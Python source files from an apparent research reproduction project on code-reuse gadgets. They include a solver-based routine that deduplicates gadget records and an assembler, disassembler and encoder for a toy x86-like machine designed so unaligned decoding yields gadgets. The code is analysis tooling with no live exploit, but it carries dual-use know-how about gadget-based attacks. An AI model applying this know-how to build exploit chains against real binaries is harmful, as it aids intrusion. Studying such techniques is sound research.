    stronger: Sequence[Bool],
    solver: Solver,
    memo: Optional[ImplicationMemo] = None,
    stats: Optional["SubsumptionStats"] = None,
) -> bool:
    """Does ``stronger`` imply ``weaker``? (pre_2 → pre_1 in eqn. 1).

    Implication decisions recur heavily inside one winnow — the same
    handful of pre-condition lists shows up across a bucket's records —
    so with a ``memo`` the sampling + solver work runs once per
    normalized ``(pre₁, pre₂)`` pair.
    """
    if not weaker:
        return True  # an empty pre-condition is implied by anything
    if list(weaker) == list(stronger):
        return True
    if stats is not None:
        stats.implication_queries += 1
    key = None
    if memo is not None:
        key = (tuple(dict.fromkeys(stronger)), tuple(dict.fromkeys(weaker)))
        if key in memo:
            if stats is not None:
                stats.memo_hits += 1
            return memo[key]
    result = _pre_implies_uncached(weaker, stronger, solver)
    if key is not None:
        memo[key] = result
    return result


def _pre_implies_uncached(
    weaker: Sequence[Bool], stronger: Sequence[Bool], solver: Solver
) -> bool:
    # Sampling refutation: a vector satisfying `stronger` but not
    # `weaker` disproves the implication without any solver work.
    for trial in _REFUTE_TRIALS:
        env = _ProbeEnv(trial)
        try:
            if all(eval_bool(c, env) for c in stronger) and not all(
                eval_bool(c, env) for c in weaker
            ):
                return False
        except Exception:  # pragma: no cover - defensive
            break
    if not stronger:
        # TRUE → pre_1 requires pre_1 to be valid.
        return solver.prove(bool_and(*weaker))
    hypothesis = bool_and(*stronger)
    goal = bool_and(*weaker)
    return solver.check([hypothesis, bool_not(goal)]).is_unsat


def subsumes(
    g1: GadgetRecord,
    g2: GadgetRecord,
    solver: Optional[Solver] = None,
    *,
    exact: bool = False,
    memo: Optional[ImplicationMemo] = None,
    stats: Optional["SubsumptionStats"] = None,
) -> bool:
    """True iff g1 subsumes g2 per eqn. (1)."""
    solver = solver or Solver(max_conflicts=2000)
    return _posts_equal(g1, g2, solver, exact) and _pre_implies(
        g1.pre_cond, g2.pre_cond, solver, memo, stats
    )


@dataclass
class SubsumptionStats:
    input_count: int = 0
    output_count: int = 0
    buckets: int = 0
    solver_checks: int = 0
    implication_queries: int = 0  # non-trivial pre-implication decisions
    memo_hits: int = 0  # answered from the implication memo
    jobs: int = 1  # worker processes that ran the winnow
    cache_hits: int = 0  # persistent-cache lookups that short-circuited
    cache_misses: int = 0
    wall_total: float = 0.0

    @property
    def reduction_factor(self) -> float:
        if self.output_count == 0:
            return 1.0
        return self.input_count / self.output_count

    @property
    def memo_hit_rate(self) -> float:
        if not self.implication_queries:
            return 0.0
        return self.memo_hits / self.implication_queries

    @property
    def cache_hit(self) -> bool:
        return self.cache_hits > 0


def bucketize(records: Sequence[GadgetRecord]) -> List[List[GadgetRecord]]:
    """Group records into fingerprint buckets.

    Buckets are returned in fingerprint first-occurrence order, which is
    what the serial winnow iterates — a sharded winnow that processes
    and concatenates buckets in this order reproduces the serial
    survivor order exactly (the final stable location sort preserves
    the concatenation order among location ties).
    """
    buckets: Dict[Tuple, List[GadgetRecord]] = defaultdict(list)
    for record in records:
        buckets[fingerprint(record)].append(record)
    out = list(buckets.values())
    size_histogram = metrics().histogram("winnow.bucket_size")
    for bucket in out:
        size_histogram.observe(len(bucket))
    return out


def winnow_bucket(
    bucket: Sequence[GadgetRecord],
    solver: Solver,
    stats: Optional[SubsumptionStats] = None,
    *,
    exact: bool = False,
    memo: Optional[ImplicationMemo] = None,
) -> List[GadgetRecord]:
    """Winnow one fingerprint bucket; buckets are independent, so this
    is the unit of work a parallel winnow shards across processes."""
    # Candidate order: fewest preconditions first, then shortest —
    # the preferred representative wins ties cheaply.
    ordered = sorted(bucket, key=lambda g: (len(g.pre_cond), g.num_insns, g.location))
    kept: List[GadgetRecord] = []
    for record in ordered:
        dominated = False
        for keeper in kept:
            if stats is not None:
                stats.solver_checks += 1
            if subsumes(keeper, record, solver, exact=exact, memo=memo, stats=stats):
                dominated = True
                break
        if not dominated:
            kept.append(record)
    return kept


def deduplicate_gadgets(
    records: Sequence[GadgetRecord],
    *,
    solver: Optional[Solver] = None,
    stats: Optional[SubsumptionStats] = None,
    exact: bool = False,
) -> List[GadgetRecord]:
    """Winnow the pool: keep one representative per equivalence class,
    preferring the loosest pre-condition, then the shortest gadget.

    :mod:`repro.pipeline` runs the same winnow with the buckets sharded
    over worker processes and the survivor pool cached on disk; this
    function remains the single-process reference path the parallel
    winnow is asserted byte-identical against.
    """
    solver = solver or Solver(max_conflicts=2000)
    stats = stats if stats is not None else SubsumptionStats()
    stats.input_count = len(records)
    with span("winnow") as root:
        with span("winnow.bucketize") as bkt_sp:
            buckets = bucketize(records)
        bkt_sp.add("buckets", len(buckets))
        stats.buckets = len(buckets)

        memo: ImplicationMemo = {}
        survivors: List[GadgetRecord] = []
        with span("winnow.buckets") as run_sp:
            for bucket in buckets:
                survivors.extend(winnow_bucket(bucket, solver, stats, exact=exact, memo=memo))
            run_sp.add("solver_checks", stats.solver_checks)
            run_sp.add("memo_hits", stats.memo_hits)
        survivors.sort(key=lambda g: g.location)
        root.add("input", stats.input_count)
        root.add("output", len(survivors))
    stats.output_count = len(survivors)
    stats.wall_total += root.wall
    return survivors
