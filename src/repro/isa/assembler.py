"""A small two-pass text assembler for the NFL machine.

The assembler exists so that tests, examples and hand-written gadget
snippets can be expressed readably::

    from repro.isa.assembler import assemble

    code = assemble('''
        start:
            mov rax, 59
            pop rdi
            cmp rdi, 0
            jne start
            syscall
            ret
    ''')

Supported syntax (one statement per line, ``;`` or ``#`` comments):

* ``label:`` definitions; labels may be used as jump/call targets and
  as 64-bit immediates (``mov rax, label``).
* every mnemonic in :mod:`repro.isa.instructions`; ``mov`` picks the
  encoding from its operand shapes, ``mov32`` forces the 5-byte
  sign-extended-immediate form.
* memory operands ``[reg]``, ``[reg+imm]``, ``[reg-imm]``.
* data directives: ``.quad v``, ``.byte v``, ``.asciz "s"``, ``.zero n``.
"""

from __future__ import annotations

import re
import struct
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Union

from .encoding import encode
from .instructions import Instruction, Op, OperandLayout, OP_TABLE
from .registers import Reg, reg_by_name

_LABEL_RE = re.compile(r"^([A-Za-z_.$][\w.$]*):$")
_MEM_RE = re.compile(r"^\[\s*([a-z0-9]+)\s*(?:([+-])\s*(\w+))?\s*\]$")


class AssemblyError(ValueError):
    """Raised on malformed assembly input."""

    def __init__(self, message: str, line_no: Optional[int] = None):
        if line_no is not None:
            message = f"line {line_no}: {message}"
        super().__init__(message)


@dataclass
class _MemOperand:
    base: Reg
    disp: int


@dataclass
class _Statement:
    """A parsed source statement awaiting label resolution."""

    line_no: int
    mnemonic: str
    operands: List[Union[Reg, int, str, _MemOperand]]
    size: int
    op: Optional[Op] = None
    data: Optional[bytes] = None  # for directives


@dataclass
class AssembledUnit:
    """The output of :func:`assemble_unit`: bytes plus symbol table."""

    code: bytes
    labels: Dict[str, int]
    instructions: List[Instruction] = field(default_factory=list)


def _parse_int(token: str, line_no: int) -> int:
    try:
        return int(token, 0)
    except ValueError:
        raise AssemblyError(f"bad integer literal {token!r}", line_no) from None


def _parse_operand(token: str, line_no: int) -> Union[Reg, int, str, _MemOperand]:
    token = token.strip()
    mem = _MEM_RE.match(token)
    if mem:
        base = reg_by_name(mem.group(1))
        disp = 0
        if mem.group(2):
            disp = _parse_int(mem.group(3), line_no)
            if mem.group(2) == "-":
                disp = -disp
        return _MemOperand(base=base, disp=disp)
    try:
        return reg_by_name(token)
    except ValueError:
        pass
    try:
        return int(token, 0)
    except ValueError:
        return token  # a label reference


def _split_operands(rest: str) -> List[str]:
    if not rest.strip():
        return []
    parts: List[str] = []
    depth = 0
    current = ""
    for ch in rest:
        if ch == "[":
            depth += 1
        elif ch == "]":
            depth -= 1
        if ch == "," and depth == 0:
            parts.append(current)
            current = ""
        else:
            current += ch
    parts.append(current)
    return [p.strip() for p in parts]


# Mnemonics that map to a single opcode regardless of operand shapes.
_SIMPLE_MNEMONICS: Dict[str, Op] = {}
for _op, _inf in OP_TABLE.items():
    _SIMPLE_MNEMONICS.setdefault(_inf.mnemonic, _op)
# 'mov', 'jmp', 'call', 'push' are shape-dispatched; remove ambiguity markers.
for _amb in ("mov", "jmp", "call", "push"):
    _SIMPLE_MNEMONICS.pop(_amb, None)
# The canonical pop encoding is the one-byte form.
_SIMPLE_MNEMONICS["pop"] = Op.POP1

_RR_OPS = {
    "add": (Op.ADD_RR, Op.ADD_RI),
    "sub": (Op.SUB_RR, Op.SUB_RI),
    "and": (Op.AND_RR, Op.AND_RI),
    "or": (Op.OR_RR, Op.OR_RI),
    "xor": (Op.XOR_RR, Op.XOR_RI),
    "cmp": (Op.CMP_RR, Op.CMP_RI),
    "test": (Op.TEST_RR, Op.TEST_RI),
}


def _select_op(mnemonic: str, operands: List, line_no: int) -> Op:
    """Pick the opcode for a mnemonic based on its operand shapes."""
    def is_reg(x) -> bool:
        return isinstance(x, Reg)

    def is_mem(x) -> bool:
        return isinstance(x, _MemOperand)

    def is_immish(x) -> bool:
        return isinstance(x, (int, str))

    if mnemonic == "mov":
        if len(operands) != 2:
            raise AssemblyError("mov takes two operands", line_no)
        a, b = operands
        if is_reg(a) and is_reg(b):
            return Op.MOV_RR
        if is_reg(a) and is_immish(b):
            return Op.MOV_RI
        if is_reg(a) and is_mem(b):
            return Op.LOAD
        if is_mem(a) and is_reg(b):
            return Op.STORE
        raise AssemblyError("unsupported mov operand combination", line_no)
    if mnemonic == "mov32":
        return Op.MOV_RI32
    if mnemonic == "jmp":
        (a,) = operands if len(operands) == 1 else (None,)
        if a is None:
            raise AssemblyError("jmp takes one operand", line_no)
        if is_reg(a):
            return Op.JMP_R
        if is_mem(a):
            return Op.JMP_M
        return Op.JMP_REL
    if mnemonic == "call":
        (a,) = operands if len(operands) == 1 else (None,)
        if a is None:
            raise AssemblyError("call takes one operand", line_no)
        return Op.CALL_R if is_reg(a) else Op.CALL_REL
    if mnemonic == "push":
        (a,) = operands if len(operands) == 1 else (None,)
        if a is None:
            raise AssemblyError("push takes one operand", line_no)
        return Op.PUSH_R if is_reg(a) else Op.PUSH_I
    if mnemonic in _RR_OPS:
        if len(operands) != 2:
            raise AssemblyError(f"{mnemonic} takes two operands", line_no)
        rr, ri = _RR_OPS[mnemonic]
        return rr if is_reg(operands[1]) else ri
    op = _SIMPLE_MNEMONICS.get(mnemonic)
    if op is None:
        raise AssemblyError(f"unknown mnemonic {mnemonic!r}", line_no)
    return op


def _build_instruction(stmt: _Statement, labels: Dict[str, int], addr: int) -> Instruction:
    """Second pass: resolve labels and build the final Instruction."""
    op = stmt.op
    assert op is not None
    info = OP_TABLE[op]
    layout = info.layout

    def resolve(v, line_no: int) -> int:
        if isinstance(v, int):
            return v
        if isinstance(v, str):
            if v not in labels:
                raise AssemblyError(f"undefined label {v!r}", line_no)
            return labels[v]
        raise AssemblyError(f"expected immediate or label, got {v!r}", line_no)

    ops = stmt.operands
    kwargs: dict = {"addr": addr}
    if layout is OperandLayout.NONE:
        pass
    elif layout in (OperandLayout.REG, OperandLayout.REG_IN_OPCODE):
        kwargs["dst"] = ops[0]
    elif layout is OperandLayout.REG_REG:
        kwargs["dst"], kwargs["src"] = ops[0], ops[1]
    elif layout in (OperandLayout.REG_IMM64, OperandLayout.REG_IMM32, OperandLayout.REG_IMM8):
        kwargs["dst"] = ops[0]
        kwargs["imm"] = resolve(ops[1], stmt.line_no)
    elif layout is OperandLayout.REG_MEM:
        mem = ops[1]
        kwargs["dst"], kwargs["base"], kwargs["disp"] = ops[0], mem.base, mem.disp
    elif layout is OperandLayout.MEM_REG:
        mem = ops[0]
        kwargs["base"], kwargs["disp"], kwargs["src"] = mem.base, mem.disp, ops[1]
    elif layout is OperandLayout.IMM64:
        kwargs["imm"] = resolve(ops[0], stmt.line_no)
    elif layout is OperandLayout.REL32:
        target = resolve(ops[0], stmt.line_no)
        kwargs["rel"] = target - (addr + info.size)
    elif layout is OperandLayout.MEM:
        mem = ops[0]
        kwargs["base"], kwargs["disp"] = mem.base, mem.disp
    else:  # pragma: no cover - exhaustive
        raise AssertionError(layout)
    return Instruction(op=op, **kwargs)


def _parse_directive(mnemonic: str, rest: str, line_no: int) -> bytes:
    if mnemonic == ".quad":
        values = [_parse_int(v.strip(), line_no) for v in rest.split(",")]
        return b"".join(struct.pack("<Q", v & ((1 << 64) - 1)) for v in values)
    if mnemonic == ".byte":
        values = [_parse_int(v.strip(), line_no) for v in rest.split(",")]
        return bytes(v & 0xFF for v in values)
    if mnemonic == ".zero":
        return b"\x00" * _parse_int(rest.strip(), line_no)
    if mnemonic == ".asciz":
        text = rest.strip()
        if not (text.startswith('"') and text.endswith('"')):
            raise AssemblyError(".asciz expects a double-quoted string", line_no)
        body = text[1:-1].encode().decode("unicode_escape").encode("latin-1")
        return body + b"\x00"
    raise AssemblyError(f"unknown directive {mnemonic!r}", line_no)


def assemble_unit(
    source: str, base_addr: int = 0, extra_labels: Optional[Dict[str, int]] = None
) -> AssembledUnit:
    """Assemble ``source`` and return bytes, labels, and instruction list.

    ``extra_labels`` pre-defines symbols (e.g. data-section addresses
    assigned by the linker) that the source may reference but not define.
    """
    statements: List[_Statement] = []
    labels: Dict[str, int] = dict(extra_labels or {})
    addr = base_addr

    for line_no, raw in enumerate(source.splitlines(), start=1):
        line = raw.split(";")[0].split("#")[0].strip()
        if not line:
            continue
        while True:
            match = _LABEL_RE.match(line.split(None, 1)[0]) if line else None
            if match and line == match.group(0):
                name = match.group(1)
                if name in labels:
                    raise AssemblyError(f"duplicate label {name!r}", line_no)
                labels[name] = addr
                line = ""
                break
            if match:
                name = match.group(1)
                if name in labels:
                    raise AssemblyError(f"duplicate label {name!r}", line_no)
                labels[name] = addr
                line = line.split(None, 1)[1].strip()
                continue
            break
        if not line:
            continue
        parts = line.split(None, 1)
        mnemonic = parts[0].lower()
        rest = parts[1] if len(parts) > 1 else ""
        if mnemonic.startswith("."):
            data = _parse_directive(mnemonic, rest, line_no)
            statements.append(
                _Statement(line_no=line_no, mnemonic=mnemonic, operands=[], size=len(data), data=data)
            )
            addr += len(data)
            continue
        operands = [_parse_operand(t, line_no) for t in _split_operands(rest)]
        op = _select_op(mnemonic, operands, line_no)
        size = OP_TABLE[op].size
        statements.append(
            _Statement(line_no=line_no, mnemonic=mnemonic, operands=operands, size=size, op=op)
        )
        addr += size

    out = bytearray()
    insns: List[Instruction] = []
    addr = base_addr
    for stmt in statements:
        if stmt.data is not None:
            out += stmt.data
        else:
            insn = _build_instruction(stmt, labels, addr)
            insns.append(insn)
            out += encode(insn)
        addr += stmt.size
    return AssembledUnit(code=bytes(out), labels=labels, instructions=insns)


def assemble(source: str, base_addr: int = 0) -> bytes:
    """Assemble ``source`` and return just the encoded bytes."""
    return assemble_unit(source, base_addr).code
