"""Linear-sweep disassembler with graceful handling of data bytes."""

from __future__ import annotations

from typing import Iterator, List, Tuple

from .encoding import DecodeError, decode
from .instructions import Instruction


def disassemble(data: bytes, base_addr: int = 0) -> List[Instruction]:
    """Linear-sweep disassembly; skips undecodable bytes one at a time.

    Unlike :func:`repro.isa.encoding.decode_all`, this never raises: a
    byte that does not start a valid instruction is skipped, mirroring
    how objdump-style tools recover after data islands.
    """
    out: List[Instruction] = []
    offset = 0
    while offset < len(data):
        try:
            insn = decode(data, offset, addr=base_addr + offset)
        except DecodeError:
            offset += 1
            continue
        out.append(insn)
        offset += insn.size
    return out


def disassemble_lines(data: bytes, base_addr: int = 0) -> Iterator[Tuple[int, str]]:
    """Yield ``(address, text)`` pairs for a human-readable listing."""
    offset = 0
    while offset < len(data):
        addr = base_addr + offset
        try:
            insn = decode(data, offset, addr=addr)
        except DecodeError:
            yield addr, f".byte {data[offset]:#04x}"
            offset += 1
            continue
        yield addr, str(insn)
        offset += insn.size


def format_listing(data: bytes, base_addr: int = 0) -> str:
    """A complete listing as one string (for examples and debugging)."""
    return "\n".join(f"{addr:#010x}:  {text}" for addr, text in disassemble_lines(data, base_addr))
