"""Binary encoder/decoder for NFL instructions.

Encodings are little-endian and variable-length (1 to 10 bytes).  The
decoder is total over the subset of byte strings that form valid
encodings and raises :class:`DecodeError` otherwise — exactly the
behaviour gadget extraction relies on when it probes *unaligned*
offsets inside instruction streams.
"""

from __future__ import annotations

import struct
from typing import Iterator, List

from .instructions import Instruction, Op, OperandLayout, OP_TABLE
from .registers import Reg


class DecodeError(ValueError):
    """Raised when bytes at an offset do not form a valid instruction."""


_VALID_OPCODES = {int(op) for op in Op}


def _pack_u64(value: int) -> bytes:
    return struct.pack("<Q", value & ((1 << 64) - 1))


def _pack_i32(value: int) -> bytes:
    return struct.pack("<i", value)


def _reg_byte(hi: Reg | None, lo: Reg | None) -> int:
    h = int(hi) if hi is not None else 0
    low = int(lo) if lo is not None else 0
    return ((h & 0xF) << 4) | (low & 0xF)


def encode(insn: Instruction) -> bytes:
    """Encode a single instruction to bytes.

    Raises :class:`ValueError` when an operand does not fit its field
    (e.g. a 32-bit immediate out of range).
    """
    info = OP_TABLE[insn.op]
    layout = info.layout
    if layout is OperandLayout.REG_IN_OPCODE:
        return bytes([int(insn.op) | int(insn.dst)])
    out = bytearray([int(insn.op)])
    if layout is OperandLayout.NONE:
        pass
    elif layout is OperandLayout.REG:
        out.append(_reg_byte(None, insn.dst))
    elif layout is OperandLayout.REG_REG:
        out.append(_reg_byte(insn.dst, insn.src))
    elif layout is OperandLayout.REG_IMM64:
        out.append(_reg_byte(None, insn.dst))
        out += _pack_u64(insn.imm or 0)
    elif layout is OperandLayout.REG_IMM32:
        out.append(_reg_byte(None, insn.dst))
        imm = insn.imm or 0
        if not -(1 << 31) <= imm < (1 << 31):
            raise ValueError(f"imm32 out of range: {imm:#x} in {insn}")
        out += _pack_i32(imm)
    elif layout is OperandLayout.REG_IMM8:
        out.append(_reg_byte(None, insn.dst))
        imm = insn.imm or 0
        if not 0 <= imm < 256:
            raise ValueError(f"imm8 out of range: {imm}")
        out.append(imm)
    elif layout is OperandLayout.REG_MEM:
        out.append(_reg_byte(insn.dst, insn.base))
        out += _pack_i32(insn.disp)
    elif layout is OperandLayout.MEM_REG:
        out.append(_reg_byte(insn.base, insn.src))
        out += _pack_i32(insn.disp)
    elif layout is OperandLayout.IMM64:
        out += _pack_u64(insn.imm or 0)
    elif layout is OperandLayout.REL32:
        rel = insn.rel or 0
        if not -(1 << 31) <= rel < (1 << 31):
            raise ValueError(f"rel32 out of range: {rel:#x}")
        out += _pack_i32(rel)
    elif layout is OperandLayout.MEM:
        out.append(_reg_byte(None, insn.base))
        out += _pack_i32(insn.disp)
    else:  # pragma: no cover - exhaustive
        raise AssertionError(f"unhandled layout {layout}")
    assert len(out) == info.size, (insn, len(out), info.size)
    return bytes(out)


def decode(data: bytes, offset: int = 0, addr: int | None = None) -> Instruction:
    """Decode one instruction from ``data`` at ``offset``.

    ``addr`` is the virtual address recorded on the instruction; it
    defaults to ``offset`` (useful when ``data`` is a whole text section
    loaded at address zero).
    """
    if addr is None:
        addr = offset
    if offset >= len(data):
        raise DecodeError(f"offset {offset:#x} beyond end of data")
    opcode = data[offset]
    # Alias encodings: the high bit of the opcode byte is ignored, as
    # with x86's many redundant encodings.  The assembler always emits
    # the canonical (low) form; the alias form only ever arises when
    # decoding data bytes — which is precisely what makes unaligned
    # gadget scanning productive on x86, and, with this rule, here too.
    canonical = opcode & 0x7F
    if 0x70 <= canonical <= 0x7F:
        # One-byte pop: register packed into the opcode byte.
        return Instruction(op=Op.POP1, dst=Reg(canonical & 0xF), addr=addr)
    if canonical not in _VALID_OPCODES:
        raise DecodeError(f"invalid opcode byte {opcode:#04x} at {offset:#x}")
    op = Op(canonical)
    info = OP_TABLE[op]
    if offset + info.size > len(data):
        raise DecodeError(f"truncated {info.mnemonic} at {offset:#x}")
    body = data[offset + 1 : offset + info.size]
    layout = info.layout

    def regs(b: int) -> tuple[Reg, Reg]:
        return Reg((b >> 4) & 0xF), Reg(b & 0xF)

    kwargs: dict = {}
    if layout is OperandLayout.NONE:
        pass
    elif layout is OperandLayout.REG:
        _, lo = regs(body[0])
        if body[0] & 0xF0:
            raise DecodeError(f"nonzero high nibble in REG operand at {offset:#x}")
        kwargs["dst"] = lo
    elif layout is OperandLayout.REG_REG:
        hi, lo = regs(body[0])
        kwargs["dst"], kwargs["src"] = hi, lo
    elif layout is OperandLayout.REG_IMM64:
        if body[0] & 0xF0:
            raise DecodeError(f"nonzero high nibble in REG operand at {offset:#x}")
        kwargs["dst"] = Reg(body[0] & 0xF)
        kwargs["imm"] = struct.unpack("<Q", body[1:9])[0]
    elif layout is OperandLayout.REG_IMM32:
        if body[0] & 0xF0:
            raise DecodeError(f"nonzero high nibble in REG operand at {offset:#x}")
        kwargs["dst"] = Reg(body[0] & 0xF)
        kwargs["imm"] = struct.unpack("<i", body[1:5])[0]
    elif layout is OperandLayout.REG_IMM8:
        if body[0] & 0xF0:
            raise DecodeError(f"nonzero high nibble in REG operand at {offset:#x}")
        kwargs["dst"] = Reg(body[0] & 0xF)
        kwargs["imm"] = body[1]
    elif layout is OperandLayout.REG_MEM:
        hi, lo = regs(body[0])
        kwargs["dst"], kwargs["base"] = hi, lo
        kwargs["disp"] = struct.unpack("<i", body[1:5])[0]
    elif layout is OperandLayout.MEM_REG:
        hi, lo = regs(body[0])
        kwargs["base"], kwargs["src"] = hi, lo
        kwargs["disp"] = struct.unpack("<i", body[1:5])[0]
    elif layout is OperandLayout.IMM64:
        kwargs["imm"] = struct.unpack("<Q", body[0:8])[0]
    elif layout is OperandLayout.REL32:
        kwargs["rel"] = struct.unpack("<i", body[0:4])[0]
    elif layout is OperandLayout.MEM:
        if body[0] & 0xF0:
            raise DecodeError(f"nonzero high nibble in MEM base at {offset:#x}")
        kwargs["base"] = Reg(body[0] & 0xF)
        kwargs["disp"] = struct.unpack("<i", body[1:5])[0]
    else:  # pragma: no cover - exhaustive
        raise AssertionError(f"unhandled layout {layout}")
    return Instruction(op=op, addr=addr, **kwargs)


def encode_program(insns: List[Instruction]) -> bytes:
    """Encode a list of instructions back-to-back."""
    return b"".join(encode(i) for i in insns)


def decode_all(data: bytes, base_addr: int = 0) -> List[Instruction]:
    """Decode an entire byte string as a contiguous instruction stream."""
    out: List[Instruction] = []
    offset = 0
    while offset < len(data):
        insn = decode(data, offset, addr=base_addr + offset)
        out.append(insn)
        offset += insn.size
    return out


def decode_window(data: bytes, offset: int, base_addr: int = 0, max_insns: int = 64) -> Iterator[Instruction]:
    """Decode instructions starting at ``offset`` until decoding fails.

    Used by gadget extraction: probing arbitrary (possibly unaligned)
    offsets and yielding as many instructions as validly decode.
    """
    count = 0
    while offset < len(data) and count < max_insns:
        try:
            insn = decode(data, offset, addr=base_addr + offset)
        except DecodeError:
            return
        yield insn
        offset += insn.size
        count += 1
