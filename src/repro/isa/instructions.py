"""Instruction set of the NFL machine.

The instruction set is small but deliberately shaped like x86-64:

* variable-length encodings (1 to 10 bytes), so that decoding from an
  unaligned offset yields *different*, often valid, instructions — the
  property that makes x86 binaries gadget-rich;
* a one-byte opcode followed by a fixed operand layout per opcode;
* ``ret`` / ``jmp reg`` / ``jmp [mem]`` / conditional jumps / ``call`` —
  all five gadget-terminator families from Table I of the paper.

Each opcode carries static metadata (:class:`OpInfo`) describing its
operand layout; the encoder, decoder, emulator and symbolic executor are
all driven from this single table.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Optional, Tuple

from .registers import Reg


class OperandLayout(enum.Enum):
    """The operand bytes that follow a one-byte opcode."""

    NONE = "none"  # no operands
    REG_IN_OPCODE = "reg_in_opcode"  # register packed into the opcode byte
    REG = "reg"  # 1 byte: register in the low nibble
    REG_REG = "reg_reg"  # 1 byte: dst in high nibble, src in low nibble
    REG_IMM64 = "reg_imm64"  # 1 reg byte + 8-byte little-endian immediate
    REG_IMM32 = "reg_imm32"  # 1 reg byte + 4-byte sign-extended immediate
    REG_IMM8 = "reg_imm8"  # 1 reg byte + 1-byte immediate (shift counts)
    REG_MEM = "reg_mem"  # 1 byte regs (dst, base) + 4-byte signed disp
    MEM_REG = "mem_reg"  # 1 byte regs (base, src) + 4-byte signed disp
    IMM64 = "imm64"  # 8-byte immediate (push imm)
    REL32 = "rel32"  # 4-byte signed offset from the *end* of the insn
    MEM = "mem"  # 1 byte base reg + 4-byte signed disp (jmp [mem])


_LAYOUT_SIZES = {
    OperandLayout.NONE: 0,
    OperandLayout.REG_IN_OPCODE: 0,
    OperandLayout.REG: 1,
    OperandLayout.REG_REG: 1,
    OperandLayout.REG_IMM64: 9,
    OperandLayout.REG_IMM32: 5,
    OperandLayout.REG_IMM8: 2,
    OperandLayout.REG_MEM: 5,
    OperandLayout.MEM_REG: 5,
    OperandLayout.IMM64: 8,
    OperandLayout.REL32: 4,
    OperandLayout.MEM: 5,
}


class Op(enum.IntEnum):
    """Opcodes. The integer value is the encoding's opcode byte."""

    # -- no-operand group ------------------------------------------------
    NOP = 0x00
    HLT = 0x01
    SYSCALL = 0x02
    RET = 0x03
    LEAVE = 0x04  # rsp := rbp ; pop rbp

    # -- data movement ---------------------------------------------------
    MOV_RI = 0x10  # mov reg, imm64
    MOV_RR = 0x11  # mov dst, src
    LOAD = 0x12  # mov dst, [base + disp]
    STORE = 0x13  # mov [base + disp], src
    LEA = 0x14  # lea dst, [base + disp]
    XCHG = 0x15  # xchg r1, r2
    LOADB = 0x16  # movzx dst, byte [base + disp]
    STOREB = 0x17  # mov byte [base + disp], low8(src)
    MOV_RI32 = 0x18  # mov reg, imm32 (sign extended)

    # -- stack -----------------------------------------------------------
    PUSH_R = 0x20
    POP_R = 0x21  # legacy two-byte form; the assembler emits POP1
    PUSH_I = 0x22

    #: One-byte pop (register in the opcode byte, 0x70|reg), mirroring
    #: x86's 0x58+r — the encoding whose ubiquity as *data* makes
    #: ``pop <argreg>; ret`` gadgets so common in real binaries.
    POP1 = 0x70

    # -- arithmetic / logic (all update ZF/SF; add/sub also CF/OF) --------
    ADD_RR = 0x30
    ADD_RI = 0x31
    SUB_RR = 0x32
    SUB_RI = 0x33
    AND_RR = 0x34
    AND_RI = 0x35
    OR_RR = 0x36
    OR_RI = 0x37
    XOR_RR = 0x38
    XOR_RI = 0x39
    SHL_RI = 0x3A
    SHR_RI = 0x3B
    SAR_RI = 0x3C
    MUL_RR = 0x3D  # dst := dst * src (low 64 bits, unsigned)
    NOT_R = 0x3E
    NEG_R = 0x3F
    INC_R = 0x40
    DEC_R = 0x41
    UDIV_RR = 0x42  # dst := dst / src (unsigned; src==0 traps)
    UMOD_RR = 0x43  # dst := dst % src
    CMP_RR = 0x44
    CMP_RI = 0x45
    TEST_RR = 0x46
    TEST_RI = 0x47

    # -- control flow ----------------------------------------------------
    JMP_REL = 0x50  # jmp rel32 (direct, unconditional)
    JMP_R = 0x51  # jmp reg   (indirect, unconditional)
    JMP_M = 0x52  # jmp [base + disp] (indirect, unconditional)
    CALL_REL = 0x53  # call rel32 (pushes return address)
    CALL_R = 0x54  # call reg

    # -- conditional direct jumps (Jcc rel32) ------------------------------
    JE = 0x60
    JNE = 0x61
    JL = 0x62
    JLE = 0x63
    JG = 0x64
    JGE = 0x65
    JB = 0x66
    JBE = 0x67
    JA = 0x68
    JAE = 0x69
    JS = 0x6A
    JNS = 0x6B


@dataclass(frozen=True)
class OpInfo:
    """Static description of one opcode."""

    op: Op
    mnemonic: str
    layout: OperandLayout

    @property
    def size(self) -> int:
        """Total encoded size in bytes, including the opcode byte."""
        return 1 + _LAYOUT_SIZES[self.layout]


def _info(op: Op, mnemonic: str, layout: OperandLayout) -> OpInfo:
    return OpInfo(op=op, mnemonic=mnemonic, layout=layout)


OP_TABLE: dict[Op, OpInfo] = {
    Op.NOP: _info(Op.NOP, "nop", OperandLayout.NONE),
    Op.HLT: _info(Op.HLT, "hlt", OperandLayout.NONE),
    Op.SYSCALL: _info(Op.SYSCALL, "syscall", OperandLayout.NONE),
    Op.RET: _info(Op.RET, "ret", OperandLayout.NONE),
    Op.LEAVE: _info(Op.LEAVE, "leave", OperandLayout.NONE),
    Op.MOV_RI: _info(Op.MOV_RI, "mov", OperandLayout.REG_IMM64),
    Op.MOV_RR: _info(Op.MOV_RR, "mov", OperandLayout.REG_REG),
    Op.LOAD: _info(Op.LOAD, "mov", OperandLayout.REG_MEM),
    Op.STORE: _info(Op.STORE, "mov", OperandLayout.MEM_REG),
    Op.LEA: _info(Op.LEA, "lea", OperandLayout.REG_MEM),
    Op.XCHG: _info(Op.XCHG, "xchg", OperandLayout.REG_REG),
    Op.LOADB: _info(Op.LOADB, "movzxb", OperandLayout.REG_MEM),
    Op.STOREB: _info(Op.STOREB, "movb", OperandLayout.MEM_REG),
    Op.MOV_RI32: _info(Op.MOV_RI32, "mov", OperandLayout.REG_IMM32),
    Op.PUSH_R: _info(Op.PUSH_R, "push", OperandLayout.REG),
    Op.POP_R: _info(Op.POP_R, "pop", OperandLayout.REG),
    Op.POP1: _info(Op.POP1, "pop", OperandLayout.REG_IN_OPCODE),
    Op.PUSH_I: _info(Op.PUSH_I, "push", OperandLayout.IMM64),
    Op.ADD_RR: _info(Op.ADD_RR, "add", OperandLayout.REG_REG),
    Op.ADD_RI: _info(Op.ADD_RI, "add", OperandLayout.REG_IMM32),
    Op.SUB_RR: _info(Op.SUB_RR, "sub", OperandLayout.REG_REG),
    Op.SUB_RI: _info(Op.SUB_RI, "sub", OperandLayout.REG_IMM32),
    Op.AND_RR: _info(Op.AND_RR, "and", OperandLayout.REG_REG),
    Op.AND_RI: _info(Op.AND_RI, "and", OperandLayout.REG_IMM32),
    Op.OR_RR: _info(Op.OR_RR, "or", OperandLayout.REG_REG),
    Op.OR_RI: _info(Op.OR_RI, "or", OperandLayout.REG_IMM32),
